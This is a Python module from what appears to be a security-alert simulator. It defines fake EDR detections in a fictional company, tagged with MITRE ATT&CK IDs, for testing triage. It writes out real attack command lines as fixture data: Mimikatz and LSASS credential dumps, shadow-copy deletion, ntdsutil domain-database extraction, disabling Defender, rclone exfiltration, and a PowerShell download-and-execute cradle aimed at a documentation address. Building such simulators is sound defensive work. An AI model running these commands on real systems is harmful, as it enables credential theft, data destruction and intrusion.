"""The attacks, and the false alarms, that the simulator can play.

All of them happen in one made-up company: CORP is the Windows domain of acme.com, jsmith works at
workstation-01, adm-mgarcia administers. The one address is from RFC 5737 (documentation), so
nothing that a command line names can be reached. `simulate.sh` carries the CrowdStrike scenarios a
second time, because it has to work alone; a test holds the two equal.

The table is in CrowdStrike's words; `as_sent_by` says the same in another vendor's.
"""

from typing import Final

from vyrox.models import Vendor
from vyrox.trial import company
from vyrox.trial.simulate.stages import Scenario, Stage, encoded
from vyrox.trial.simulate.vendors import as_sent_by

_WORKSTATION_01 = company.WORKSTATION_01.at("crowdstrike")
_WORKSTATION_07 = company.WORKSTATION_07.at("crowdstrike")
_FILE_SRV_02 = company.FILE_SRV_02.at("crowdstrike")
_ERP_SRV_03 = company.ERP_SRV_03.at("crowdstrike")
_DC_01 = company.DC_01.at("crowdstrike")

_JSMITH = r"CORP\jsmith"
_ADMIN = r"CORP\adm-mgarcia"
_SYSTEM = r"NT AUTHORITY\SYSTEM"

_BACKUP = r"CORP\svc-backup"


_ENCODED_DOWNLOAD = encoded(
    "-WindowStyle Hidden -ExecutionPolicy Bypass",
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')",
)
_ENCODED_INVENTORY = encoded("-NonInteractive", "Get-HotFix | Select-Object HotFixID")

# One table, two lines for each detection.
# fmt: off
_ALL = (
    Scenario("mimikatz", "crowdstrike", "Mimikatz reads passwords out of LSASS memory", (
        Stage("critical", "TA0006", "T1003.001", _WORKSTATION_01, _JSMITH,
              'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit"'),
    )),
    Scenario("ransomware", "crowdstrike", "Shadow copies deleted, recovery off, files encrypted", (
        Stage("high", "TA0040", "T1490", _FILE_SRV_02, _SYSTEM,
              "vssadmin.exe delete shadows /all /quiet"),
        Stage("high", "TA0040", "T1490", _FILE_SRV_02, _SYSTEM,
              "bcdedit.exe /set {default} recoveryenabled no"),
        Stage("critical", "TA0040", "T1486", _FILE_SRV_02, _SYSTEM,
              r"C:\ProgramData\winupd64.exe --path D:\Shares --threads 16 --ext .locked"),
    )),
    Scenario("encoded-powershell", "crowdstrike", "Hidden PowerShell runs a Base64 command", (
        Stage("high", "TA0002", "T1059.001", _WORKSTATION_01, _JSMITH,
              _ENCODED_DOWNLOAD),
    )),
    Scenario("lateral-movement", "crowdstrike", "From a mailed document to the domain controller", (
        Stage("medium", "TA0001", "T1566.001", _WORKSTATION_01, _JSMITH,
              r'WINWORD.EXE /n "C:\Users\jsmith\Downloads\Invoice 2291.docm"'),
        Stage("high", "TA0002", "T1059.001", _WORKSTATION_01, _JSMITH,
              _ENCODED_DOWNLOAD),
        Stage("medium", "TA0003", "T1053.005", _WORKSTATION_01, _JSMITH,
              r'schtasks.exe /create /tn UpdateCheck /tr C:\Temp\upd.exe /sc onlogon /ru SYSTEM'),
        Stage("medium", "TA0007", "T1069.002", _WORKSTATION_01, _SYSTEM,
              'net.exe group "Domain Admins" /domain'),
        Stage("critical", "TA0006", "T1003.001", _WORKSTATION_01, _SYSTEM,
              r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\Temp\upd.dmp full"),
        Stage("high", "TA0008", "T1021.002", _WORKSTATION_01, _ADMIN,
              r"net.exe use \\file-srv-02\ADMIN$ /user:CORP\adm-mgarcia"),
        Stage("high", "TA0008", "T1021.006", _FILE_SRV_02, _ADMIN,
              r"powershell.exe -NoProfile Invoke-Command dc-01 -FilePath C:\Windows\Temp\ifm.ps1"),
        Stage("critical", "TA0006", "T1003.003", _DC_01, _ADMIN,
              r'ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\ifm" q q'),
    )),
    Scenario("ransomware-precursor", "crowdstrike", "The hour before files are encrypted", (
        Stage("medium", "TA0007", "T1482", _FILE_SRV_02, _ADMIN,
              "nltest.exe /domain_trusts /all_trusts"),
        Stage("high", "TA0005", "T1562.001", _FILE_SRV_02, _ADMIN,
              "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true"),
        Stage("medium", "TA0010", "T1567.002", _FILE_SRV_02, _ADMIN,
              r"C:\ProgramData\rclone.exe copy D:\Shares mega:acme --transfers 16 --max-age 2y"),
        Stage("medium", "TA0040", "T1489", _FILE_SRV_02, _SYSTEM,
              "cmd.exe /c net stop VeeamBackupSvc /y & net stop MSSQLSERVER /y & net stop vss /y"),
        Stage("high", "TA0040", "T1490", _FILE_SRV_02, _SYSTEM,
              "wbadmin.exe delete catalog -quiet"),
    )),
    Scenario("software-deployment", "crowdstrike", "Benign: SCCM and Intune run scripts", (
        Stage("low", "TA0002", "T1059.001", _WORKSTATION_07, _SYSTEM,
              r"powershell.exe -ExecutionPolicy Bypass -File C:\Windows\ccmcache\1a\Install.ps1"),
        Stage("medium", "TA0005", "T1218.007", _WORKSTATION_07, _SYSTEM,
              r"msiexec.exe /i C:\Windows\ccmcache\2c\viewer-24.2-x64.msi /qn /norestart"),
        Stage("medium", "TA0002", "T1059.001", _WORKSTATION_07, _SYSTEM,
              _ENCODED_INVENTORY),
        Stage("medium", "TA0002", "T1059.001", _WORKSTATION_07, _SYSTEM,
              r"powershell.exe -NoProfile -executionPolicy bypass -file "
              r"C:\Windows\IMECache\HealthScripts\8f0b6a1e-52c7-4d39-9e84-1b7c3a5d2f60_1\detect.ps1"),
    )),
    Scenario("psexec", "sentinelone", "PsExec runs a program on a server, seen from both ends", (
        Stage("high", "TA0008", "T1021.002", _WORKSTATION_07, _ADMIN,
              r"PsExec64.exe \\file-srv-02 -accepteula -s -d cmd.exe /c C:\Windows\Temp\upd.exe"),
        Stage("high", "TA0002", "T1569.002", _FILE_SRV_02, _SYSTEM,
              r"C:\Windows\PSEXESVC.exe"),
    )),
    Scenario("lsass-dump", "defender", "ProcDump writes the memory of LSASS to a file", (
        Stage("high", "TA0006", "T1003.001", _WORKSTATION_01, _JSMITH,
              r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp"),
    )),
    Scenario("backup", "generic", "Benign: the nightly backup reads a whole server", (
        Stage("low", "TA0009", "T1119", _ERP_SRV_03, _BACKUP,
              r"wbadmin.exe start backup -backupTarget:\\backup-01\nightly -include:D: -quiet"),
        Stage("medium", "TA0040", "T1490", _ERP_SRV_03, _BACKUP,
              "vssadmin.exe list shadows /for=D:"),
        Stage("medium", "TA0010", "T1048", _ERP_SRV_03, _BACKUP,
              r"robocopy.exe D:\Data \\backup-01\nightly /MIR /R:2 /W:5 /LOG:C:\Logs\copy.log"),
    )),
)
# fmt: on

_NAMED: Final = {each.name: each for each in _ALL}


def scenario_of(name: str, vendor: Vendor | None = None) -> Scenario:
    """Return the scenario of this name as the vendor reports it; None for the vendor it has."""
    scenario = _NAMED[name]
    return as_sent_by(vendor or scenario.vendor, scenario)


SCENARIOS: Final = {name: scenario_of(name) for name in _NAMED}
"""Every scenario under its name, in the order `--list` shows them."""
